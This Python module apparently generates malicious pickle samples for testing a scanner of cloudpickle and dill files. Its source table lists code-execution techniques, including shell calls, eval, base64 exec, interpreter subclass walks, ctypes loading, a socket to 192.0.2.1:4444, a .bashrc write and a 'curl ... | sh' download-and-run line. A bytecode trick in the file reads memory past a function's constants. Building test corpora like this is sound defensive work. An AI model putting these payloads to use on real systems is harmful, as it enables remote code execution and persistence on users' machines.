"""Code that cloudpickle and dill carry by value: it runs when the object is used, not when it is loaded."""

from __future__ import annotations

import dis
import types
from collections.abc import Callable
from typing import Any

from .sample import Sample, write_bytes

_SOURCES = {
    "command": "import os\ndef f(x):\n    return os.system(x)\n",
    "command-imported-inside": "def f(x):\n    from subprocess import check_output as look\n    return look(x)\n",
    "command-in-method": (
        "import subprocess\nclass C:\n    def predict(self, x):\n        return subprocess.run(['sh', '-c', x])\n"
        "f = C()\n"
    ),
    "command-in-nested-function": (
        "import os\ndef f(x):\n    def inner(y):\n        return [os.popen(z) for z in y]\n    return inner(x)\n"
    ),
    "evaluated-text": "def f(x):\n    return eval(x)\n",
    "executed-code": ("import base64\ndef f(x):\n    exec(base64.b64decode('cGFzcw=='))\n    return x\n"),
    "import-by-name": "def f(x):\n    return __import__('o' + 's').listdir(x)\n",
    "import-by-library": "import importlib\ndef f(x):\n    return importlib.import_module(x)\n",
    "interpreter-walk": (
        "def f(x):\n    return [c for c in ().__class__.__base__.__subclasses__() if 'wrap' in c.__name__]\n"
    ),
    "globals-of-a-method": "def f(x):\n    return x.predict.__globals__['os']\n",
    "format-walk": "def f(x):\n    return '{0.__init__.__globals__}'.format(x)\n",
    "native-library": "import ctypes\ndef f(x):\n    return ctypes.CDLL(x)\n",
    "socket": (
        "import socket\ndef f(x):\n    s = socket.socket()\n    s.connect(('192.0.2.1', 4444))\n    return s.recv(99)\n"
    ),
    "start-up-file": (
        "def f(x):\n    with open('/root/.bashrc', 'a') as file:\n        file.write('true')\n    return x\n"
    ),
    "shell-text": "import os\ndef f(x, run=os.system):\n    return run('curl http://192.0.2.1/x | sh')\n",
}
"""Technique to the source of ``f``, which is what is pickled."""


def _made(source: str) -> Any:
    namespace: dict[str, Any] = {"__name__": "__main__"}
    exec(compile(source, "train.py", "exec"), namespace)
    return namespace["f"]


def _cloudpickle(source: str) -> Callable[[], bytes]:
    def content() -> bytes:
        import cloudpickle

        return cloudpickle.dumps(_made(source))

    return content


def _dill(source: str) -> Callable[[], bytes]:
    def content() -> bytes:
        import dill

        return dill.dumps(_made(source), recurse=True)

    return content


def _beyond() -> bytes:
    """A function that takes the two hundredth of its two constants: whatever lies there in memory."""
    import cloudpickle

    code = (lambda x: x + "suffix").__code__
    load = dis.opmap["LOAD_CONST"]
    crafted = code.co_code.replace(bytes((load, 1)), bytes((load, 200)))
    return cloudpickle.dumps(types.FunctionType(code, {"__name__": "__main__"})).replace(code.co_code, crafted)


def _sample(name: str, technique: str, content: Callable[[], bytes], loader: str, source: str = "") -> Sample:
    return Sample(name, technique, True, False, write_bytes(name, content), loader, (loader,), source)


SAMPLES = (
    *(
        _sample(f"carried_{kind}.pkl", f"carried/{kind}", _cloudpickle(source), "cloudpickle")
        for kind, source in _SOURCES.items()
    ),
    *(
        _sample(f"carried_dill_{kind}.pkl", f"carried/dill-{kind}", _dill(_SOURCES[kind]), "dill")
        for kind in ("command", "command-imported-inside", "evaluated-text", "interpreter-walk", "native-library")
    ),
    _sample("carried_beyond.pkl", "carried/index-beyond-constants", _beyond, "cloudpickle"),
)
